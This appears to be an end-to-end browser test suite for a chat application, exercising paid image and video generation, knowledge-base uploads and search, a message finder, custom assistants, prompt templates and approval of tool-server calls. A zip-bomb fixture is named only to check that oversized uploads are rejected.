const pageWords = (way) => JSON.parse(readFileSync(new URL(`../../web/src/i18n/${way.language}.json`, import.meta.url), "utf8"));
const madeTasks = async (user) => (await api("GET", "/api/tasks?type=image,video", { token: user.token })).json.items;

/** Somebody with a page on which that model is chosen. */
async function maker(way, model, amount = 0) {
	await withMakers();
	const user = await newUser();
	if (amount > 0) await grant(user, amount);
	const page = await newPage(way);
	await signIn(page, user.email);
	await chooseModel(page, model);
	await page.getByTestId("make-cost").waitFor();
	return { user, page };
}

/** The n-th answer's picture or film is there. */
async function drawn(page, n, what = "img") {
	const one = answers(page).nth(n - 1).locator(what).first();
	await one.waitFor({ timeout: 60_000 });
	await until(() => one.evaluate((el) => (el.tagName === "VIDEO" ? el.src !== "" : el.complete && el.naturalWidth > 0)), "it is drawn");
	return one;
}

for (const way of CORNERS)
	journey(`making: a picture in a conversation, watched, edited, kept (${way.name})`, async () => {
		const words = makingWords(way);
		const site = pageWords(way);
		const { user, page } = await maker(way, "paint");
		await page.getByRole("combobox", { name: words.size }).selectOption("16:9");
		equal(await page.getByTestId("make-cost").innerText(), words.costs.replace("{{credits}}", "5"), "the price");
		await input(page).fill("[[demo task=6000]] A weir at dawn");
		await look(page, `compose-${way.name}`);
		await input(page).press("Enter");
		const bar = page.getByRole("progressbar");
		await bar.waitFor();
		await until(async () => Number(await bar.getAttribute("aria-valuenow")), "it gets on");
		if (!way.phone) await page.getByRole("status", { name: site.media.running.replace("{{number}}", "1") }).waitFor();
		await look(page, `composing-${way.name}`);
		await page.reload();
		await page.getByRole("progressbar").or(answers(page).locator("img")).first().waitFor();
		await drawn(page, 1);
		equal(await balanceOf(user), 95, "credits after a picture");
		await page.reload();
		await drawn(page, 1);

		// the picture goes back to the composer, and is edited
		await answers(page).first().locator("img").hover();
		await page.getByRole("button", { name: site.media.edit }).first().click();
		equal(await page.getByRole("combobox", { name: words.kind }).inputValue(), "images.edit", "what is made");
		await page.getByRole("button", { name: site.upload.remove }).waitFor();
		await input(page).fill("Add a boat");
		await look(page, `compose-edit-${way.name}`);
		await input(page).press("Enter");
		await drawn(page, 2);
		await until(async () => (await page.locator("article").nth(2).locator("img").count()) === 1, "the question shows what is edited");
		await until(async () => (await balanceOf(user)) === 89, "credits after an edit");
		await look(page, `composed-${way.name}`);

		// the page of all agrees with the API
		await page.goto(`${new URL(page.url()).origin}/media`);
		await page.locator("[data-made] img").nth(1).waitFor();
		const tasks = await madeTasks(user);
		equal(JSON.stringify(await page.locator("[data-made]").evaluateAll((all) => all.map((el) => el.dataset.made))), JSON.stringify(tasks.map((t) => t.id)), "what is shown");
		await page.locator("[data-made] button").first().click();
		const place = page.getByRole("dialog").getByRole("status");
		equal(await place.innerText(), words.place.replace("{{at}}", "1").replace("{{all}}", "2"), "which one");
		await page.keyboard.press("ArrowRight");
		await until(async () => (await place.innerText()).startsWith("2"), "the arrow leads on");
		await page.getByRole("dialog").locator("img").waitFor();
		await look(page, `viewer-${way.name}`);
		await page.keyboard.press("Escape");
		await page.locator("[data-made] button").first().click();
		await page.getByRole("button", { name: words.remove, exact: true }).click();
		await page.getByRole("dialog").last().getByRole("button", { name: words.remove, exact: true }).click();
		await until(async () => (await page.locator("[data-made]").count()) === 1, "one is left");
		equal((await madeTasks(user)).filter((t) => t.result.files.length > 0).length, 1, "and at the server");
		await look(page, `gallery-${way.name}`);
	});

for (const way of CORNERS)
	journey(`making: films of words, of a picture and of scenes (${way.name})`, async () => {
		const words = makingWords(way);
		const site = pageWords(way);
		const { user, page } = await maker(way, "roll", 400);
		const kind = page.getByRole("combobox", { name: words.kind });
		equal(await page.getByTestId("make-cost").innerText(), words.costs.replace("{{credits}}", "30"), "the price of ten seconds");
		await page.getByRole("combobox", { name: words.seconds }).selectOption("15");
		equal(await page.getByTestId("make-cost").innerText(), words.costs.replace("{{credits}}", "45"), "the price of fifteen");
		await send(page, "Water flows over a weir");
		await drawn(page, 1, "video");
		equal(await balanceOf(user), 455, "credits after a film");
		// without a picture it says so; with one it goes
		await kind.selectOption("videos.from_image");
		await page.getByText(words.problems.picture_missing).waitFor();
		await input(page).fill("The boat moves");
		holds(await page.getByRole("button", { name: site.chat.send, exact: true }).isDisabled(), "nothing is sent without its picture");
		const png = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");
		await page.locator('input[type="file"][multiple]').setInputFiles([1, 2].map((n) => ({ name: `${n}.png`, mimeType: "image/png", buffer: Buffer.concat([png, Buffer.from([n])]) })));
		await page.getByText(words.problems.picture_many.replace("{{name}}", "revive").replace("{{most}}", "1")).waitFor();
		await look(page, `compose-film-${way.name}`);
		await page.getByRole("button", { name: site.upload.remove }).first().click();
		await page.getByText(words.problems.picture_missing).waitFor({ state: "detached" });
		await input(page).press("Enter");
		await drawn(page, 2, "video");
		equal(await balanceOf(user), 410, "credits after a film of a picture, as long");
		// scenes
		await kind.selectOption("videos.storyboard");
		await page.getByRole("textbox", { name: words.scene.replace("{{n}}", "1") }).fill("A weir");
		await page.getByRole("textbox", { name: words.scene.replace("{{n}}", "2") }).fill("Its water");
		await page.getByRole("button", { name: words.add_scene }).click();
		await page.getByText(words.problems.shots.replace("{{seconds}}", "15")).waitFor();
		await page.getByRole("textbox", { name: words.scene.replace("{{n}}", "3") }).fill("The sea");
		await look(page, `compose-scenes-${way.name}`);
		await page.getByRole("button", { name: site.chat.send, exact: true }).click();
		await drawn(page, 3, "video");
		equal(await balanceOf(user), 380, "credits after scenes");
		const asked = (await madeTasks(user))[0].asked;
		equal(JSON.stringify(asked.shots.map((s) => [s.scene, s.duration])), '[["A weir",5],["Its water",5],["The sea",5]]', "the scenes");
		await look(page, `films-${way.name}`);
	});

journey("making: what fails says why, costs nothing, and is made again as a new task", async () => {
	const { user, page } = await maker(WAYS[0], "paint");
	await send(page, "[[demo result=fail]] A weir");
	const failure = answers(page).first().getByRole("alert");
	await failure.waitFor({ timeout: 60_000 });
	equal(await balanceOf(user), 100, "credits");
	await look(page, "making-failed");
	await failure.getByRole("button", { name: "Try again" }).click();
	await until(async () => (await madeTasks(user)).length === 2, "another task");
	const [second, first] = await madeTasks(user);
	holds(second.id !== first.id && JSON.stringify(second.asked) === JSON.stringify(first.asked), "the same is asked anew");
	await answers(page).nth(1).getByRole("alert").waitFor({ timeout: 60_000 });
	equal(await balanceOf(user), 100, "credits after both");
});

journey("making: what it costs to stop is said first", async () => {
	const { user, page } = await maker(WAYS[0], "paint");
	await send(page, "[[demo result=stuck]] A weir");
	await until(async () => (await madeTasks(user))[0]?.status === "running", "the provider has it");
	await answers(page).first().getByRole("button", { name: "Stop" }).click();
	await page.getByRole("dialog").getByText("up to 5 credits are charged").waitFor();
	await look(page, "making-stop");
	equal((await madeTasks(user))[0].status, "running", "it goes on meanwhile");
	await page.getByRole("dialog").getByRole("button", { name: "Stop" }).click();
	await until(async () => (await madeTasks(user))[0].status === "cancelled", "it is stopped");
	equal(await balanceOf(user), 95, "credits");
	await answers(page).first().getByRole("alert").waitFor();
});

journey("making: the answer of the provider is lost, and it is charged once", async () => {
	const { user, page } = await maker(WAYS[0], "paint");
	await send(page, "[[demo fault=close task=3000]] A weir");
	await drawn(page, 1);
	equal(await balanceOf(user), 95, "credits");
	const history = (await api("GET", "/api/me/credits/history?limit=50", { token: user.token })).json.items;
	equal(history.filter((h) => h.change_type === "image_generation_cost").length, 1, JSON.stringify(history));
});

journey("making: the line breaks, and the page catches up by itself", async () => {
	await withMakers();
	const user = await newUser();
	const line = await badLine();
	const page = await newPage(WAYS[0]);
	await signIn(page, user.email, PASSWORD, "/", line.url);
	await chooseModel(page, "paint");
	await page.getByTestId("make-cost").waitFor();
	await send(page, "[[demo task=4000]] A weir");
	await page.getByRole("progressbar").waitFor();
	line.cut();
	await until(async () => (await madeTasks(user))[0]?.status === "completed", "it is made meanwhile", 60_000);
	line.mend();
	await waitAnswer(page, 1); // the picture itself is at another address than this page
	await until(async () => (await page.getByRole("status", { name: /in the making/ }).count()) === 0, "nothing runs any more", 60_000);
	equal(await balanceOf(user), 95, "credits");
	line.close();
});

journey("making: the worker is killed in the middle, and it is charged once", async () => {
	const { user, page } = await maker(WAYS[0], "paint");
	await send(page, "[[demo task=4000]] A weir");
	await until(async () => (await madeTasks(user))[0]?.status === "running", "the provider has it");
	await hands("kill");
	await page.waitForTimeout(500);
	await hands("start");
	const picture = answers(page).first().locator("img");
	await picture.waitFor({ timeout: 90_000 });
	equal(await balanceOf(user), 95, "credits");
}, { alone: true });

// -- knowledge

const kbFile = (name) => new URL(`../data/kbfiles/${name}`, import.meta.url).pathname;
const knowledgeWords = (way) => JSON.parse(readFileSync(new URL(`../../web/src/i18n/knowledge.${way.language}.json`, import.meta.url), "utf8")).knowledge;
const QUOTED = "A needle dam is closed by hand, needle by needle, against the stream.";
const NOTES = `# Weirs\n\nA weir raises the water above it, so that boats may pass.\n\n## Needle dams\n\n${QUOTED}\n\n## 堰\n\n堰抬高了上游的水位，使船只得以通行。\n`;

/** A model whose vectors weir-demo makes, made once. */
async function embedder() {
	const token = await admin();
	const name = "demo-vectors";
	const model = { name, type: "embedding", is_default: true, context_tokens: 32000, max_output_tokens: 1, price_input_per_mtok: 100, price_output_per_mtok: 0 };
	const made = await api("POST", "/api/admin/models", { token, json: model });
	if (made.status === 409) return name;
	equal(made.status, 201, made.text);
	const channel = { name, provider: "openai", base_url: process.env.WEIR_DEMO, api_key: "demo", allow_private: true, models: [{ model: name, upstream_name: "demo-fast" }] };
	equal((await api("POST", "/api/admin/channels", { token, json: channel })).status, 201, "channel");
	return name;
}

const ready = (page, name) => page.locator('[data-document][data-state="ready"]').filter({ hasText: name });

for (const way of CORNERS)
	journey(`knowledge: files become ready or say why not, are found, and open at their place (${way.name})`, async () => {
		const words = knowledgeWords(way);
		await embedder();
		const user = await newUser();
		const page = await newPage(way);
		await signIn(page, user.email, PASSWORD, "/knowledge");
		await page.getByText(words.none, { exact: true }).waitFor();
		await look(page, `knowledge-none-${way.name}`);

		// a base
		await page.getByRole("button", { name: words.new }).click();
		await page.getByLabel(words.name, { exact: true }).fill("Rivers");
		await page.getByLabel(words.model, { exact: true }).selectOption("demo-vectors");
		await look(page, `knowledge-new-${way.name}`);
		await page.getByRole("button", { name: words.create }).click();
		await page.getByText(words.no_documents, { exact: true }).waitFor();

		// files of all sorts at once
		await page.locator("main input[type=file]").first().setInputFiles([
			{ name: "weirs.md", mimeType: "text/markdown", buffer: Buffer.from(NOTES) },
			...["blk-paras-and-tables.docx", "made-zh-unembedded-font.pdf", "made-zip-bomb.docx", "encrypted-40-bit-R3.pdf"].map((name) => ({ name, mimeType: "", buffer: readFileSync(kbFile(name)) })),
		]);
		await ready(page, "weirs.md").waitFor({ timeout: 60_000 });
		await ready(page, "blk-paras-and-tables.docx").waitFor({ timeout: 60_000 });
		await ready(page, "made-zh-unembedded-font.pdf").waitFor({ timeout: 60_000 });
		const failed = page.locator('[data-document][data-state="failed"]');
		await failed.filter({ hasText: "made-zip-bomb.docx" }).getByText(words.fault_too_large).waitFor();
		await failed.filter({ hasText: "encrypted-40-bit-R3.pdf" }).getByRole("button", { name: words.enter_password }).waitFor();
		await look(page, `knowledge-base-${way.name}`);

		// the same content again is said to be there, and no document more
		const count = await page.locator("[data-document]").count();
		await page.locator("main input[type=file]").first().setInputFiles({ name: "again.md", mimeType: "text/markdown", buffer: Buffer.from(NOTES) });
		await page.getByText(words.duplicate.split("{{")[0].trim()).waitFor();
		equal(await page.locator("[data-document]").count(), count, "documents");

		// search, by meaning and words, and by words
		const search = page.getByRole("search");
		await search.locator("input[type=search]").fill("How is a needle dam closed?");
		await page.keyboard.press("Enter");
		const hit = page.locator("[data-hit]").first();
		await hit.waitFor();
		holds((await hit.innerText()).includes(QUOTED), `the first hit: ${await hit.innerText()}`);
		holds(!/p\. 1|第 1 页/.test(await hit.innerText()), "a text without pages names none");
		await hit.scrollIntoViewIfNeeded();
		await look(page, `knowledge-hits-${way.name}`);
		await search.locator("label").filter({ hasText: words.mode_text }).click();
		await search.locator("input[type=search]").fill("上游的水位");
		await page.keyboard.press("Enter");
		await until(async () => (await hit.innerText()).includes("堰抬高了上游的水位"), "words are found in Chinese");

		// the viewer shows the passage
		await hit.getByRole("link").click();
		await page.locator("mark").first().waitFor();
		const marked = (await page.locator("mark").allInnerTexts()).join(" ");
		holds(marked.includes("堰抬高了上游的水位"), `marked: ${marked}`);
		await until(() => page.locator("mark").first().evaluate((m) => m.getBoundingClientRect().top >= 0 && m.getBoundingClientRect().top < innerHeight), "the passage is in view");
		await look(page, `knowledge-text-${way.name}`);
		await page.locator("label").filter({ hasText: words.view_chunks }).click();
		await page.getByRole("list", { name: words.view_chunks }).getByRole("listitem").first().waitFor();
		await look(page, `knowledge-chunks-${way.name}`);
	});

journey("knowledge: a password opens a file; a new version takes the old one's place; what is deleted is gone", async () => {
	const words = knowledgeWords(WAYS[0]);
	await embedder();
	const user = await newUser();
	const page = await newPage();
	await signIn(page, user.email, PASSWORD, "/knowledge");
	await page.getByRole("button", { name: words.new }).click();
	await page.getByLabel(words.name, { exact: true }).fill("Papers");
	await page.getByRole("button", { name: words.create }).click();
	await page.locator("main input[type=file]").first().setInputFiles(kbFile("libreoffice-writer-password.pdf"));
	const row = page.locator("[data-document]");
	await row.getByRole("button", { name: words.enter_password }).waitFor();
	await row.getByRole("link").click();
	await page.getByText(words.fault_encrypted).waitFor();
	await page.getByRole("link", { name: words.back_to_base }).click();
	await row.getByRole("button", { name: words.enter_password }).click();
	const dialog = page.getByRole("dialog");
	await dialog.getByLabel(words.password, { exact: true }).fill("wrong");
	await dialog.getByRole("button", { name: "Try again" }).click();
	await dialog.waitFor({ state: "detached" });
	await row.and(page.locator('[data-state="failed"]')).waitFor({ timeout: 60_000 });
	await row.getByRole("button", { name: words.enter_password }).click();
	await dialog.getByLabel(words.password, { exact: true }).fill("openpassword");
	await dialog.getByRole("button", { name: "Try again" }).click();
	await row.and(page.locator('[data-state="ready"]')).waitFor({ timeout: 60_000 });

	// the original, in the browser's own viewer
	await row.getByRole("link").click();
	await page.locator("label").filter({ hasText: words.view_original }).click();
	equal(await page.locator("iframe").getAttribute("src").then((src) => src.startsWith("blob:")), true, "the PDF is framed");
	await page.getByRole("link", { name: words.back_to_base }).click();

	// pasted text, then replaced
	await page.getByRole("button", { name: words.paste }).click();
	await dialog.getByLabel(words.doc_title, { exact: true }).fill("Notes");
	await dialog.getByLabel(words.text, { exact: true }).fill("The old text speaks of sluices.");
	await dialog.getByRole("button", { name: words.add, exact: true }).click();
	await ready(page, "Notes").waitFor({ timeout: 60_000 });
	const notes = row.filter({ hasText: "Notes" });
	const id = await notes.getAttribute("data-document");
	await notes.locator("input[type=file]").setInputFiles({ name: "Notes", mimeType: "text/plain", buffer: Buffer.from("The new text speaks of locks.") });
	const replaced = page.locator(`[data-document="${id}"]`);
	await replaced.getByText(words.version_n.replace("{{n}}", "2"), { exact: true }).waitFor({ timeout: 60_000 });
	await replaced.and(page.locator('[data-state="ready"]')).waitFor({ timeout: 60_000 });
	await replaced.getByRole("link").click();
	await page.getByText("The new text speaks of locks.").waitFor();
	await page.goto(`${page.url()}?from=0&to=12&version=1`);
	await page.locator("mark", { hasText: "The old text" }).waitFor();
	await page.getByText(words.old_version.split("{{")[0].trim()).waitFor();

	// deleted
	await page.goBack();
	await page.getByRole("link", { name: words.back_to_base }).click();
	await replaced.getByRole("button", { name: words.actions.split("{{")[0] }).click();
	await page.getByRole("menuitem", { name: "Delete" }).click();
	await dialog.getByRole("button", { name: "Delete" }).click();
	await replaced.waitFor({ state: "detached" });
	await page.getByRole("button", { name: "Actions for Papers" }).click();
	await page.getByRole("menuitem", { name: "Delete" }).click();
	await dialog.getByRole("button", { name: "Delete" }).click();
	await page.getByText(words.none, { exact: true }).waitFor();
});

for (const way of CORNERS)
	journey(`knowledge: an answer has sources, and a mark opens what it means (${way.name})`, async () => {
		const words = knowledgeWords(way);
		await embedder();
		const user = await newUser();
		const made = await api("POST", "/api/knowledge", { token: user.token, json: { name: "Rivers" } });
		equal(made.status, 201, made.text);
		const base = `/api/knowledge/${made.json.id}/documents`;
		equal((await api("POST", base, { token: user.token, json: { title: "Notes on weirs", text: NOTES } })).status, 202, "a document");
		await until(async () => (await api("GET", base, { token: user.token })).json.items[0].state === "ready", "it is ready", 60_000);

		const page = await newPage(way);
		await signIn(page, user.email);
		const choose = async () => {
			await page.locator('main button[aria-haspopup="menu"]').last().click();
			await page.getByRole("menuitem", { name: words.title }).click();
			await page.getByRole("dialog").getByRole("checkbox").first().waitFor();
		};
		await choose();
		await page.getByRole("checkbox", { name: "Rivers" }).check();
		await look(page, `knowledge-choice-${way.name}`);
		await page.getByRole("button", { name: words.done }).click();
		equal(await page.locator("[data-knowledge]").getAttribute("data-knowledge"), "1", "bases of the new conversation");

		// weir-demo says again what it was asked
		await chooseModel(page, "demo-fast");
		await send(page, "A needle dam is closed by hand, and how? [1] As `[1]` says. [[demo echo=1]]");
		const answer = await waitAnswer(page, 1);
		const mark = answer.locator('[data-cite="1"]');
		await mark.waitFor();
		equal(await mark.count(), 1, "marks outside of code");
		await answer.getByRole("link", { name: /Notes on weirs/ }).waitFor();
		await mark.click();
		const popover = page.getByRole("dialog");
		holds((await popover.innerText()).includes(QUOTED), `the quote: ${await popover.innerText()}`);
		await look(page, `knowledge-cited-${way.name}`);
		await popover.getByRole("link", { name: words.open_place }).first().click();
		await page.locator("mark").first().waitFor();
		equal((await page.locator("mark").allInnerTexts()).join(""), QUOTED, "the sentence that is marked");

		// the conversation keeps its bases, and answers without any once they are taken away
		await page.goBack();
		await mark.waitFor();
		await page.reload();
		await page.locator("[data-knowledge]").waitFor();
		await mark.waitFor();
		// a question that says nothing by itself is put anew, once that is wanted, and the answer tells
		await choose();
		const anew = page.getByRole("switch", { name: words.rewrite });
		await page.getByText(words.rewrite, { exact: true }).click();
		await until(() => anew.isChecked(), "questions are put anew");
		await look(page, `knowledge-anew-${way.name}`);
		await page.getByRole("button", { name: words.done }).click();
		await send(page, "And against what? [1] [[demo echo=1]]");
		const told = await waitAnswer(page, 2);
		const tells = words.searched_for.replace("{{query}}", "A needle dam is closed by hand, and how? [1] As `[1]` says. And against what? [1]");
		await told.getByText(tells).waitFor();
		await look(page, `knowledge-searched-${way.name}`);

		await choose();
		const rivers = page.getByRole("checkbox", { name: "Rivers" });
		await rivers.click(); // it follows what the conversation says a moment later
		await until(async () => !(await rivers.isChecked()), "the base is taken away");
		await page.getByRole("button", { name: words.done }).click();
		await page.locator("[data-knowledge]").waitFor({ state: "detached" });
		await send(page, "A needle dam again [1] [[demo echo=1]]");
		const second = await waitAnswer(page, 3);
		equal(await second.locator("[data-cite]").count(), 0, "marks without sources");
	});

journey("knowledge: an agent brings its bases", async () => {
	await embedder();
	const token = await admin();
	const base = await api("POST", "/api/knowledge", { token, json: { name: "Library" } });
	equal(base.status, 201, base.text);
	const name = `Librarian ${Date.now()}`;
	const page = await newPage();
	await signIn(page, process.env.WEIR_ADMIN_LOGIN, process.env.WEIR_ADMIN_PASSWORD, "/admin/agents");
	await page.getByRole("button", { name: "Add", exact: true }).click();
	const dialog = page.getByRole("dialog");
	await dialog.getByLabel("Name", { exact: true }).fill(name);
	await dialog.getByRole("checkbox", { name: "Library" }).check();
	await dialog.locator("label").filter({ hasText: /^Always$/ }).click();
	await look(page, "knowledge-agent");
	await dialog.getByRole("button", { name: "Save" }).click();
	await dialog.waitFor({ state: "detached" });
	const { items } = (await api("GET", "/api/admin/agents", { token })).json;
	const agent = items.find((a) => a.name === name);
	equal(JSON.stringify([agent.knowledge_ids.length, agent.knowledge_mode]), '[1,"always"]', "what the agent has");
	equal((await api("DELETE", `/api/admin/agents/${agent.id}`, { token })).status, 204, "removed");
	equal((await api("DELETE", `/api/knowledge/${base.json.id}`, { token })).status, 204, "removed");
});

// -- the finder

const FIND = {
	en: { open: null, field: "Find anything", group: "Messages" },
	zh: { open: "查找 (Ctrl+K)", field: "查找", group: "消息" },
};

for (const way of CORNERS)
	journey(`the finder: words of long ago are found, and the page goes there (${way.name})`, async () => {
		const user = await newUser();
		const messages = Array.from({ length: 300 }, (_, n) => ({ role: n % 2 ? "assistant" : "user", content: `number ${n} of many 第${n}条` }));
		messages[41].content = "A **weir** near Heerenveen holds the water.\n\n海伦芬附近的堰挡住了水。";
		const held = await api("POST", "/api/import/conversation", { token: user.token, json: { title: "Long ago", messages } });
		equal(held.status, 201, held.text);
		const wanted = way.language === "zh" ? "海伦芬 堰" : "heerenveen weir";
		await until(async () => (await api("GET", `/api/search?q=${encodeURIComponent(wanted)}`, { token: user.token })).json.items?.length === 1, "its words are noted", 60_000);
		const words = FIND[way.language];
		const page = await newPage(way);
		await signIn(page, user.email);
		await input(page).waitFor();
		if (words.open) {
			await openSidebar(page, way);
			await page.getByRole("button", { name: words.open }).click();
		} else await page.keyboard.press("Control+k");
		const field = page.getByRole("combobox", { name: words.field });
		await field.fill(wanted);
		const hit = page.getByRole("group", { name: words.group }).getByRole("option").first();
		await hit.locator("mark").first().waitFor();
		await accessible(page, "the finder");
		await shot(page, `finder-${way.name}`);
		if (way.phone) await hit.click();
		else {
			await until(async () => (await hit.getAttribute("aria-selected")) === "true", "the hit is chosen");
			await page.keyboard.press("Enter");
		}
		const found = page.locator("article[data-found]");
		await found.waitFor({ timeout: 60_000 });
		const article = await found.elementHandle(); // which is marked for a moment only
		await until(async () => (await article.innerText()).includes("Heerenveen"), "it is that message");
		await until(
			() =>
				page.evaluate(() => {
					const box = document.querySelector('[data-testid="messages"]').getBoundingClientRect();
					const at = [...document.querySelectorAll("article[data-message]")].find((a) => a.innerText.includes("Heerenveen")).getBoundingClientRect();
					return at.top >= box.top && at.bottom <= box.bottom;
				}),
			"the message is in view",
		);
		equal(new URL(page.url()).pathname, `/c/${held.json.id}`, "where the page is");
		await shot(page, `finder-found-${way.name}`);
		if (way.phone) return;
		// keys: the last question again, and which there are
		await page.keyboard.press("/");
		await page.keyboard.press("ArrowUp");
		await page.locator("article textarea").waitFor();
		equal(await page.locator("article textarea").inputValue(), messages[298].content, "the last question");
		await page.keyboard.press("Escape");
		await page.locator("article textarea").waitFor({ state: "detached" });
		for (const times of ["once", "twice"]) {
			await page.keyboard.press("Control+k");
			await page.getByRole("combobox", { name: words.field }).waitFor();
			await page.keyboard.press("Control+k");
			await page.getByRole("combobox", { name: words.field }).waitFor({ state: "detached" });
			equal(await input(page).inputValue(), "", `nothing was typed (${times})`);
		}
		await page.keyboard.press("Control+/");
		await page.getByRole("dialog").locator("kbd").first().waitFor();
		await accessible(page, "the list of keys");
		await shot(page, `keys-${way.name}`);
	});

journey("assistants: one is made, speaks, and a conversation sets a temperature of its own", async () => {
	const user = await newUser();
	const page = await newPage();
	await signIn(page, user.email, PASSWORD, "/assistants");
	await page.getByRole("button", { name: "New assistant" }).click();
	const form = page.getByRole("dialog");
	await form.getByLabel("Name", { exact: true }).fill("Fox");
	await form.getByLabel("Emoji").fill("🦊");
	await form.getByLabel("Description").fill("Knows rivers.");
	await form.getByLabel("System prompt").fill("You are a fox.");
	await form.getByLabel("Question 1", { exact: true }).fill("What is a weir? [[demo echo=1]]");
	await form.getByRole("button", { name: "Add a question" }).click();
	await form.getByLabel("Question 2", { exact: true }).fill("What is a dam?");
	await form.getByLabel("Model", { exact: true }).selectOption({ value: "demo-fast" });
	await form.getByLabel("Temperature").fill("3");
	equal(await form.getByRole("button", { name: "Save" }).isDisabled(), true, "out of bounds");
	await form.getByLabel("Temperature").fill("0.4");
	await look(page, "assistant-form");
	await form.getByRole("button", { name: "Save" }).click();
	await form.waitFor({ state: "detached" });
	await look(page, "assistants");

	await page.getByRole("button", { name: "Talk" }).click();
	const openers = page.getByTestId("openers").getByRole("button");
	await openers.first().waitFor();
	equal(await openers.count(), 2, "opening questions");
	await look(page, "assistant-empty");
	await openers.first().click();
	await input(page).press("Enter");
	const answer = await waitAnswer(page, 1);
	holds((await answer.innerText()).includes("What is a weir?"), "the question was asked");
	await page.getByTestId("speaker").getByText("Fox").waitFor();

	await page.getByRole("button", { name: "Settings of this conversation" }).click();
	const settings = page.getByRole("dialog");
	await settings.getByLabel("Temperature").fill("1.5");
	await look(page, "conversation-settings");
	await settings.getByRole("button", { name: "Save" }).click();
	await page.getByTestId("overrides").getByText("temperature 1.5").waitFor();
	await page.reload();
	await page.getByTestId("overrides").getByText("temperature 1.5").waitFor();
	await look(page, "conversation-overridden");
	await page.getByRole("button", { name: "Settings of this conversation" }).click();
	await settings.getByRole("button", { name: "Reset" }).click();
	await page.getByTestId("overrides").waitFor({ state: "detached" });
});

journey("prompts: a slash finds one by keyboard, and its variables are asked for", async () => {
	const user = await newUser();
	for (const [name, text] of [["Translate", "Translate into {{language}}: {{words}}"], ["Summary", "Sum it up."], ["Trim", "Shorten {{words}}"]])
		equal((await api("POST", "/api/prompts", { token: user.token, json: { name, text } })).status, 201, name);
	const page = await newPage();
	await signIn(page, user.email);
	await input(page).fill("/");
	const options = page.getByRole("option");
	await options.nth(2).waitFor();
	await look(page, "prompts-list");
	await input(page).pressSequentially("tr");
	await options.nth(2).waitFor({ state: "detached" });
	equal(await options.count(), 2, "found");
	await input(page).press("ArrowDown");
	await input(page).press("ArrowUp");
	await input(page).press("Enter");
	const dialog = page.getByRole("dialog", { name: "Translate" });
	await dialog.getByLabel("language").fill("French");
	await dialog.getByLabel("words").fill("a weir");
	await look(page, "prompts-variables");
	await dialog.getByLabel("words").press("Enter");
	await dialog.waitFor({ state: "detached" });
	equal(await input(page).inputValue(), "Translate into French: a weir", "inserted");
	await input(page).fill("/su");
	await options.first().waitFor();
	await input(page).press("Escape");
	await options.first().waitFor({ state: "detached" });
	equal(await input(page).inputValue(), "/su", "what was typed stays");
});

// -- tools of other servers

const TOOLS = {
	en: { attach: "Attach", tools: "Tools", done: "Done", allow: "Allow", always: "Allow in this conversation", answer: "Answer" },
	zh: { attach: "添加附件", tools: "工具", done: "完成", allow: "允许", always: "本对话中始终允许", answer: "结果" },
};

/** A model that calls tools, and a server that has some. */
async function toolServer() {
	const token = await admin();
	const json = { name: "with-tools", type: "chat", abilities: ["tools"], context_tokens: 32000, max_output_tokens: 4000, price_input_per_mtok: 1, price_output_per_mtok: 2 };
	const model = await api("POST", "/api/admin/models", { token, json });
	holds([201, 409].includes(model.status), model.text);
	if (model.status === 201)
		equal((await api("POST", "/api/admin/channels", { token, json: { name: "with-tools", provider: "openai", base_url: process.env.WEIR_DEMO, api_key: "demo", allow_private: true, models: [{ model: "with-tools", upstream_name: "demo-fast" }] } })).status, 201, "the channel");
}

for (const way of CORNERS)
	journey(`tools: a server is added, a call is allowed, and the model goes on (${way.name})`, async () => {
		const words = TOOLS[way.language];
		await toolServer();
		const token = await admin();
		const name = `demo-${Date.now().toString(36)}`; // a second walk adds another
		const server = await api("POST", "/api/admin/tool-servers", { token, json: { name, url: `${process.env.WEIR_DEMO}/mcp`, allow_private: true } });
		equal(server.status, 201, server.text);
		equal((await api("POST", `/api/admin/tool-servers/${server.json.id}/read`, { token })).json.read_error, null, "it is read");
		const desk = await newPage(way);
		await signIn(desk, process.env.WEIR_ADMIN_LOGIN, process.env.WEIR_ADMIN_PASSWORD, "/admin/tools");
		await desk.getByText(name, { exact: true }).first().waitFor();
		await look(desk, `admin-tools-${way.name}`);

		const user = await newUser();
		const page = await newPage(way);
		await signIn(page, user.email);
		await chooseModel(page, "with-tools");
		await page.getByRole("button", { name: words.attach, exact: true }).click();
		await page.getByRole("menuitem", { name: words.tools, exact: true }).click();
		const dialog = page.getByRole("dialog");
		await dialog.getByRole("checkbox", { name: new RegExp(name) }).check();
		await look(page, `tools-choice-${way.name}`);
		await dialog.getByRole("button", { name: words.done, exact: true }).click();

		await send(page, `[[demo call=${name}__web_search:query=weir call=${name}__calculator:a=40:b=2]] What is a weir?`);
		await waitAnswer(page, 1);
		const calls = page.locator("[data-call]");
		await page.getByRole("button", { name: words.allow, exact: true }).first().waitFor();
		await look(page, `tools-asked-${way.name}`);
		await page.getByRole("button", { name: words.allow, exact: true }).first().click();
		await page.getByRole("button", { name: words.always, exact: true }).last().click();
		const second = await waitAnswer(page, 2);
		holds((await second.innerText()).includes("42"), "the model has what the tools said");
		await until(async () => (await page.locator('[data-call="done"]').count()) === 2, "both calls are done");
		await calls.first().getByRole("button").first().click();
		await page.getByLabel(words.answer, { exact: true }).first().getByText("https://example.com/weir").waitFor();
		await look(page, `tools-done-${way.name}`);

		// what was allowed for the conversation goes on by itself
		await send(page, `[[demo call=${name}__calculator:a=1:b=2]] And this?`);
		await waitAnswer(page, 4);
		holds((await answers(page).nth(3).innerText()).includes("The tool said: 3"), "it went on by itself");
		await page.reload();
		await until(async () => (await page.locator('[data-call="done"]').count()) === 3, "and is there after a reload");
		equal((await api("DELETE", `/api/admin/tool-servers/${server.json.id}`, { token })).status, 204, "removed");
	});

process.exit((await runAll(process.argv[2])) > 0 ? 1 : 0);
